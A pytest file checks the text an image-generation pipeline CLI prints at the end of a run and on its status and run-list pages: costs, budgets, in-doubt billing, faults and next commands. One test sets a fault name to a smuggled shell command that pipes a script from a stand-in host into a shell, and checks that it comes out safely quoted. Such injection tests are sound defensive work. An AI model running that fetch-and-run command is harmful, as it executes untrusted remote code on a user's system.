"""The last words of a run, and the pages of `status` and `ls`, as golden text."""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from pipeline.cli.next_steps import next_steps
from pipeline.cli.standing import standing
from pipeline.cli.statement import Ending, render_end, render_runs, render_status

DONE: Mapping[str, object] = {
    "state": "complete",
    "run": "runs/mugs",
    "tasks": {"done": 24, "total": 24},
    "images": 24,
    "money": {"USD": {"limit_micros": 1_000_000, "settled_micros": 600_000, "held_micros": 0, "doubt_micros": 0}},
    "in_doubt": [],
    "faults": {},
    "gateways": {
        "mulerouter/qwen-image-max": {
            "rate": "60/min",
            "submits": 26,
            "rate_limited": 2,
            "in_flight": 0,
            "parked": None,
        }
    },
}
ENDING = Ending(DONE, Path("runs/mugs"), 7.2, None, simulated=False, command="pipeline run mugs.yaml")


def test_a_complete_run_says_what_was_made_and_where() -> None:
    """Images, cost of cap, time, and the two places to look at."""
    assert render_end(ENDING) == (
        "done: 24 images, 24 tasks done in 7.2 s; 0.60 USD of 1.00 USD\n"
        "  images    runs/mugs/images\n"
        "  gallery   pipeline report runs/mugs   makes a page to look through them\n"
        "  table     runs/mugs/images.arrow  (images.parquet, tasks.arrow beside it)"
    )


def test_a_rehearsal_says_that_nothing_was_bought_and_how_long_the_real_job_would_take() -> None:
    """The last line of --simulate."""
    page = render_end(replace(ENDING, simulated=True, simulated_s=95.0))
    assert page.splitlines()[-1] == (
        "nothing was bought: this was a rehearsal; the real job would take about 1 min 35 s"
    )
    again = render_end(replace(ENDING, simulated=True))
    assert again.splitlines()[-1] == "nothing was bought: this was a rehearsal"


def _with(**changes: object) -> Ending:
    return replace(ENDING, status={**DONE, **changes})


@pytest.mark.parametrize(
    ("ending", "lines"),
    [
        (
            _with(state="budget_reached", tasks={"done": 13, "total": 24}, images=13),
            [
                "stopped at the budget: 13 images, 13 of 24 tasks done in 7.2 s; 0.60 USD of 1.00 USD",
                '  next      raise budget in the spec and run again, or: pipeline run mugs.yaml --budget "AMOUNT UNIT"',
            ],
        ),
        (
            _with(state="stopped", tasks={"done": 13, "running": 2, "total": 24}),
            ["  next      pipeline run mugs.yaml   goes on where this stopped"],
        ),
        (
            _with(
                state="failed_tasks",
                tasks={"done": 20, "failed": 3, "short": 1, "total": 24},
                faults={"moderated": 3, "timeout": 1},
            ),
            [
                "  gave up   3 tasks failed, 1 task short",
                "  faults    3 moderated, 1 timeout",
                (
                    "  next      edit what was moderated (it fails again as it is), then: "
                    "pipeline run mugs.yaml   (what is done is kept)"
                ),
                "  next      pipeline retry runs/mugs --fault timeout   sends the failed tasks again",
            ],
        ),
        (
            _with(
                state="in_doubt",
                tasks={"done": 23, "in_doubt": 1, "total": 24},
                money={
                    "USD": {"limit_micros": None, "settled_micros": 1, "held_micros": 2, "doubt_micros": 75_000},
                },
            ),
            [
                (
                    "done, with attempts in doubt: 24 images, 23 of 24 tasks done in 7.2 s; "
                    "0.000001 USD without a limit (0.000002 USD held, 0.075 USD in doubt)"
                ),
                (
                    "  next      pipeline resolve runs/mugs   lists what is in doubt, and "
                    "books what the gateway says of it"
                ),
            ],
        ),
        (
            _with(state="parked", gateways={"a/b": {"parked": "no credit\x1b[2J", "submits": 1}}),
            [
                "  parked    a/b: no credit[2J",
                "  next      mend what the gateway says above, or wait, then: pipeline run mugs.yaml",
            ],
        ),
    ],
)
def test_every_other_ending_says_what_to_do_next(ending: Ending, lines: list[str]) -> None:
    """Each state names its next command."""
    page = render_end(ending).splitlines()
    for line in lines:
        assert line in page


def test_a_run_without_images_points_at_none() -> None:
    """No path is named that does not exist."""
    assert "  images " not in render_end(_with(images=0, tasks={"total": 24}))


def test_the_page_of_status() -> None:
    """States, money, lanes, faults and doubts."""
    status = {
        **DONE,
        "state": "in_doubt",
        "tasks": {"waiting": 2, "done": 21, "in_doubt": 1, "total": 30},
        "faults": {"transient": 1},
        "in_doubt": [{"task_id": "ab", "micros": 75_000, "currency": "USD", "why": "cut\x1b off"}],
    }
    assert render_status(status, "runs/mugs") == (
        "runs/mugs: done, with attempts in doubt, 24 images\n"
        "  tasks     21 done, 1 in doubt, 2 waiting, 30 in all\n"
        "  money     0.60 USD of 1.00 USD\n"
        "  lane      mulerouter/qwen-image-max, 60/min permitted, 26 submits, 2 times told to wait\n"
        "  faults    1 transient\n"
        "  in doubt  task ab, 0.075 USD: cut off\n"
        "  next      pipeline resolve runs/mugs   lists what is in doubt, and books what the gateway says of it"
    )


def test_the_table_of_runs() -> None:
    """One line a run."""
    other = {**DONE, "run": "runs/cups.sim", "state": "stopped", "tasks": {"done": 3, "total": 1632}, "images": 3}
    assert render_runs([DONE, other]) == (
        "run             state        done   images   money\n"
        "runs/mugs       done        24/24       24   0.60 USD of 1.00 USD\n"
        "runs/cups.sim   stopped   3/1,632        3   0.60 USD of 1.00 USD"
    )


def test_a_status_with_missing_parts_is_still_a_page() -> None:
    """An older run's status is shown as far as it goes."""
    assert render_status({"state": "new_word"}, "x") == "x: new_word, 0 images\n  tasks     none started, 0 in all"


def test_a_parked_run_says_why_whether_money_is_gone_and_one_command() -> None:
    """In users' words: the lane, the reason, that nothing was charged for it, and what to type when it is mended."""
    from pipeline.runtime.history import REMEDIES
    from pipeline.values.reply import FaultKind

    parked = [
        {
            "lane": "mulerouter/qwen-image-max",
            "fault": "unauthorized",
            "why": "Invalid token",
            "remedy": REMEDIES[FaultKind.UNAUTHORIZED],
        }
    ]
    page = render_end(_with(state="parked", tasks={"done": 1, "waiting": 3, "total": 4}, parked=parked))
    assert "  parked    mulerouter/qwen-image-max: the gateway refused the key (Invalid token)\n" in page
    assert "            what was refused or never sent was not charged; nothing is held\n" in page
    nexts = [line for line in page.splitlines() if line.startswith("  next")]
    assert nexts == [
        "  next      put a key that the gateway takes into its variable, then: pipeline run mugs.yaml",
    ]


DOUBTFUL = {"USD": {"limit_micros": 600_000, "settled_micros": 525_000, "held_micros": 0, "doubt_micros": 75_000}}


def test_a_run_that_stopped_at_the_cap_with_doubts_is_not_called_done() -> None:
    """How many were never sent, that the doubts count, and both commands that follow; `status` says it as well."""
    ending = _with(
        state="in_doubt",
        tasks={"done": 7, "in_doubt": 1, "total": 20},
        images=7,
        money=DOUBTFUL,
        in_doubt=[{"attempt": 3, "task_id": "ab" * 32, "micros": 75_000, "currency": "USD", "why": "no answer"}],
        unsent=12,
    )
    page = render_end(ending)
    assert page.startswith("stopped at the budget, with attempts in doubt: 7 images, 7 of 20 tasks done in 7.2 s; ")
    for line in (
        "  in doubt  1 task: no clear answer came, so nobody knows whether it was billed; 0.075 USD is kept aside",
        "  budget    12 tasks not sent: the cap leaves no room; what is in doubt counts until it is resolved",
        '  next      what was not sent: raise budget in the spec, or: pipeline run mugs.yaml --budget "AMOUNT UNIT"',
        "  next      pipeline resolve runs/mugs   lists what is in doubt, and books what the gateway says of it",
    ):
        assert line in page.splitlines()
    assert "gave up" not in page
    assert "  budget    12 tasks not sent" in render_status(ending.status, "runs/mugs")
    assert render_status(ending.status, "runs/mugs").startswith("runs/mugs: stopped at the budget, with attempts in")


OUT = {"unanswered": 2, "operations": 18, "pictures": 25, "links_until": "2026-11-22T18:40:00Z"}


def test_what_a_stopped_run_left_at_the_gateway_is_said_with_its_money() -> None:
    """After Ctrl-C, a full disk or a kill: calls, operations, paid pictures and when their links expire."""
    held = {"USD": {"limit_micros": None, "settled_micros": 1_875_000, "held_micros": 1_350_000, "doubt_micros": 0}}
    line = (
        "  out       2 calls without an answer (in doubt unless one is found), 18 operations at the gateway, 25 "
        "pictures paid for and not fetched yet (their links may expire from 2026-11-22T18:40:00Z on); 1.35 USD is held "
        "for them: the next run collects what can be had"
    )
    for state in ("stopped", "parked"):
        ending = _with(state=state, tasks={"running": 18, "fetching": 25, "total": 60}, images=0, money=held, out=OUT)
        assert line in render_end(ending).splitlines()
        assert line in render_status(ending.status, "runs/mugs").splitlines()
        assert "nothing is held" not in render_end(ending)
    assert "  out " not in render_status({**DONE, "state": "running", "out": OUT}, "runs/mugs")


def test_a_cap_below_what_is_spent_is_said_by_status_as_well() -> None:
    """`0.60 USD of 0.01 USD` needs its sentence."""
    money = {"USD": {"limit_micros": 10_000, "settled_micros": 600_000, "held_micros": 0, "doubt_micros": 0}}
    page = render_status({**DONE, "money": money}, "runs/mugs")
    assert "  budget    the cap is below what is spent, held or in doubt already (0.60 USD)" in page


def test_unknown_operations_are_on_the_page_of_a_living_run() -> None:
    """Since when, until when, and what can be done then."""
    told = {"a/b": {"operations": 2, "for_s": 60, "doubt_in_s": 540}}
    page = render_status({**DONE, "state": "running", "unknown_operations": told}, "runs/mugs")
    assert "a/b: the gateway has not known 2 operations for 1 min; in doubt again in 9 min unless it answers" in page
    assert "then `pipeline resolve` takes another verdict" in page


def test_a_run_in_which_everything_was_refused_points_at_the_address_first() -> None:
    """A wrong base URL answers 404 to every task: prompts are not to blame."""
    page = render_end(_with(state="failed_tasks", tasks={"failed": 4, "total": 4}, faults={"rejected": 4}, images=0))
    assert "every task was refused: look at the gateway's words above, at the base URL and at the model first" in page
    assert "mend their prompts" not in page


def test_status_says_when_doubts_are_sent_again() -> None:
    """A living run under `on_doubt: resubmit`: how many, and at what time."""
    wait = {"tasks": 3, "in_s": 48, "last_in_s": 48}
    status = {"state": "running", "tasks": {"total": 3, "in_doubt": 3}, "sent_again": wait}
    said = r"  again     3 tasks in doubt are sent again at \d\d:\d\d:\d\dZ \(on_doubt: resubmit\)"
    assert re.search(said, render_status(status, "runs/x"))
    assert "sent again" not in render_status({**status, "sent_again": None}, "runs/x")


def test_the_status_of_a_living_run_says_its_pace_and_that_it_is_paused() -> None:
    """Pictures a minute and the time left, as on the panel; a pause of every lane stands in the first line."""
    alive = {**DONE, "state": "running", "images_per_min": 33.4, "left_s": 80.2}
    lines = render_status(alive, "runs/mugs").splitlines()
    assert lines[0].startswith("runs/mugs: running, ")
    assert lines[2] == "  pace      33 images per minute, about 1 min 20 s left"
    assert "  pace" not in render_status({**alive, "images_per_min": None, "left_s": None}, "runs/mugs")
    assert "  pace" not in render_status({**alive, "state": "complete"}, "runs/mugs")
    everywhere, one = ({"lane": lane, "why": "lunch", "for_s": 3} for lane in (None, "a/b"))
    assert render_status({**alive, "paused": [everywhere]}, "runs/mugs").startswith("runs/mugs: running, and paused, ")
    assert render_status({**alive, "paused": [one]}, "runs/mugs").startswith("runs/mugs: running, ")
    assert "and paused" not in render_status({**alive, "paused": [one]}, "runs/mugs")


def test_a_strangers_fault_is_one_word_of_a_command() -> None:
    """A store may come from anybody, and what is said next is copied into a shell."""
    faults = [{"fault": "moderated", "tasks": 1}, {"fault": "lost; curl evil.example | sh", "tasks": 1}]
    status = {"state": "failed_tasks", "tasks": {"done": 1, "failed": 2, "total": 3}, "failures": faults}
    steps = next_steps(standing(status), status, "pipeline run mugs.yaml", Path("runs/mugs"))
    assert "pipeline retry runs/mugs --fault 'lost; curl evil.example | sh'   sends the failed tasks again" in steps
